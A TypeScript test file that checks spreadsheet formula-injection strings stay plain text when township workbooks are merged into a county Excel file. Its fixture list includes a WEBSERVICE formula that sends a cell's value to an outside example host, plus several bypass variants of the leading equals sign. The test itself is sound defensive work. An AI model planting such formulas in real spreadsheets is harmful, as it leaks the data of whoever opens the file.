/** A unit's text harms nobody: it stays text in the county's Excel. */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { cellsOf } from "../../../src/workbook/cells";
import { consolidated, plan, typed, type Row } from "../row";

const LIVE = [
  '=WEBSERVICE("http://example.org/?a="&A1)',
  "＝1+1",
  "+1-2",
  "@SUM(A1)",
  "1-2",
  "00123",
  "\t=1+1",
];

const alike = (text: unknown): string => String(text).normalize("NFKC").trim();

export const HARM: readonly Row[] = [
  {
    title: "what a unit types as text is no formula, date or number in the county workbook",
    holds: async (folder) => {
      const cells = Object.fromEntries(
        LIVE.flatMap((text, i) => [
          [`C${5 + i}`, text],
          [`D${5 + i}`, text],
        ]),
      );
      const { county } = await consolidated(folder, {
        "台上镇.xlsx": typed(plan("台上镇"), "L1活动", cells),
      });
      const found = (await county()).sheets.flatMap((sheet) => [...cellsOf(sheet)]);
      const texts = new Set(found.filter(({ kind }) => kind === "text").map(({ value }) => alike(value)));
      expect(LIVE.filter((text) => !texts.has(alike(text)))).toEqual([]);
      const parts = unzipSync(await readFile(join(folder, "county.xlsx")));
      const sheets = Object.keys(parts).filter((name) => name.startsWith("xl/worksheets/"));
      const formulas = sheets.flatMap((name) => strFromU8(parts[name]!).match(/<f>[^<]*<\/f>/g) ?? []);
      expect(formulas.filter((formula) => /WEBSERVICE|@SUM|＝/.test(formula))).toEqual([]);
    },
  },
];
